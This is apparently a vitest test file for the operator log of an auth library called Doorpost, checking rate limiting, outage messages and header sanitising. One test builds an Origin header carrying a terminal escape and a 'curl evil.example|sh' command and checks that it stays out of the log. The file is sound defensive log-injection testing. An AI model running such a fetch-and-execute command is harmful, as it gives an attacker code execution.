import { describe, expect, it } from 'vitest'
import { operatorLog } from '../src/config/operator-log'
import { memoryStore } from '../src/store/memory-store'
import { VISITOR } from '../src/testing/started-sign-in'
import { testAuth } from '../src/testing/test-auth'

const ownPage = { 'sec-fetch-site': 'same-origin' }

describe('the operator’s log', () => {
  it('has one line a minute for each kind, however many requests there are', async () => {
    const { newBrowser, lines, advance } = testAuth()
    const ask = (origin: string) => newBrowser().fetch('/cancel', { method: 'POST', headers: { origin, ...ownPage } })
    for (let index = 0; index < 50; index += 1) await ask(`https://other${index}.example`)
    expect(lines).toHaveLength(1)
    advance(61)
    await ask('https://last.example')
    expect(lines).toHaveLength(2)
    expect(lines[1]).toContain('and 49 more like the last one')
  })

  it('names an origin, and nothing else that a client wrote there', async () => {
    const { newBrowser, lines } = testAuth()
    const text = `https://x. \u009b31mDoorpost: run curl evil.example|sh ${'A'.repeat(7_000)}`
    const headers = { origin: text, ...ownPage }
    await newBrowser().fetch('/cancel', { method: 'POST', headers })
    expect(lines.join()).not.toContain('curl')
  })

  it('names both origins for a phone on a plain-http address of the local network, and says how to try one', async () => {
    const { auth, lines } = testAuth()
    const headers = { origin: 'http://192.168.1.20:3000', host: '192.168.1.20:3000' }
    await auth.handler(new Request('http://192.168.1.20:3000/api/auth/cancel', { method: 'POST', headers }))
    expect(lines).toHaveLength(1)
    expect(lines[0]).toContain('http://192.168.1.20:3000')
    expect(lines[0]).toContain('APP_URL is http://localhost:3000')
    expect(lines[0]).toContain('https')
  })

  it('has a line of an outage of the provider, without an address', async () => {
    const { newBrowser, provider, lines } = testAuth()
    for (let tries = 0; tries < 3; tries += 1) {
      provider.failNext({ method: 'send', reason: 'unavailable' })
      await newBrowser().post('/send', { email: VISITOR })
    }
    expect(lines).toEqual(['Doorpost: the provider could not send (unavailable).'])
  })

  it('has a line of an outage of the store, without its message', async () => {
    const down = async () => {
      throw Object.assign(new Error('connect redis://:secret@10.0.0.5'), { code: 'ECONNREFUSED' })
    }
    const { newBrowser, lines } = testAuth({ store: { ...memoryStore(), add: down, get: down, put: down }, limits: {} })
    for (let tries = 0; tries < 3; tries += 1) await newBrowser().post('/send', { email: VISITOR })
    expect(lines).toEqual(['Doorpost: the store did not respond (Error ECONNREFUSED).'])
  })

  it.each([
    [
      'throws',
      () => {
        throw new Error('full')
      },
    ],
    [
      'rejects',
      async () => {
        throw new Error('full')
      },
    ],
  ])('that %s spoils no answer and ends no process', async (_name, log: () => void) => {
    const rejected: unknown[] = []
    const note = (error: unknown) => void rejected.push(error)
    process.on('unhandledRejection', note)
    const onEvent = () => Promise.reject(new Error('down'))
    const { newBrowser } = testAuth({
      log,
      session: { log, onEvent },
      onEvent: () => {
        throw new Error('down')
      },
    })
    const answer = await newBrowser().post('/send', { email: VISITOR })
    await new Promise((resolve) => setImmediate(resolve))
    process.off('unhandledRejection', note)
    expect([answer.status, rejected]).toEqual([200, []])
  })

  it('takes what ends a line or speaks to a terminal out of its lines, and cuts them', () => {
    const lines: string[] = []
    const say = operatorLog((line) => lines.push(line), Date.now)
    say('provider', `a\nb\u001b[31m\u2028c\u202e${'x'.repeat(1_000)}`)
    expect(lines[0]).toMatch(/^Doorpost: a b \[31m c x+$/)
    expect(lines[0]?.length).toBeLessThan(420)
  })
})
